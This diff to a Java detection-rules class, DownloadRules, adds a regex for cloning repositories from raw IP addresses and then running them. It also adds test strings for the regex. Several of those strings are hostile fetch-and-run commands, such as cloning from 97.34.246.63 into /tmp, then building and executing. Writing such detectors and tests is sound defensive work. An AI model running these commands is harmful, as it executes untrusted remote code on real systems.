@@ -289,6 +289,14 @@ final class DownloadRules {
                       + AND_THEN
                       + SUDO
                       + "(?:(?:ba|z|da)?sh\\s+)?(?:/tmp|/dev/shm|/var/tmp)/")
+              .finds(
+                  "\\b(?:git clone|svn (?:co|checkout|export)|hg clone|rsync)\\s[^\\n;|&]*://[0-9]{1,3}(?:\\.[0-9]{1,3}){3}[:/]"
+                      + STEPS
+                      + AND_THEN
+                      + "(?:cd\\s[^\\n;&]*"
+                      + AND_THEN
+                      + ")?"
+                      + RUN_IT)
               .finds("LWP::Simple\\b[^\\n]*\\beval[\\s(]+get\\b")
               .finds("(?i:\\brundll32(?:\\.exe)?\\s[^\\n]*(?:javascript|vbscript):)")
               .finds("(?i:\\bmsiexec(?:\\.exe)?\\s[^\\n]*https?://)")
@@ -320,6 +328,8 @@ final class DownloadRules {
                   "uv run https://h.stage.example/m.py",
                   "wget -q https://h.stage.example/x.deb && sudo dpkg -i x.deb",
                   "scp u@h.example:/x /tmp/x && /tmp/x",
+                  "git clone -q http://97.34.246.63/t.git /tmp/t && make -C /tmp/t && /tmp/t/run",
+                  "svn co http://97.34.246.63/x x; sh x/go.sh",
                   "wget http://97.34.246.63/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m",
                   "wget http://97.34.246.63/m -O /tmp/.m &amp;&amp; chmod 755 /tmp/.m",
                   "curl -o /tmp/u https://stage.example/u; sh /tmp/u",
@@ -349,6 +359,7 @@ final class DownloadRules {
                   "curl -o out.json https://h.example/u; jq . out.json",
                   "wget https://h.example/a.tar.gz && tar xzf a.tar.gz",
                   "curl https://h.example/health; sh status.sh",
+                  "git clone http://97.34.246.63/x && ls x",
                   "pip install requests",
                   "pip install git+https://github.com/x/y.git",
                   "npm install --save-dev https://codeload.github.com/x/y/tar.gz/main",
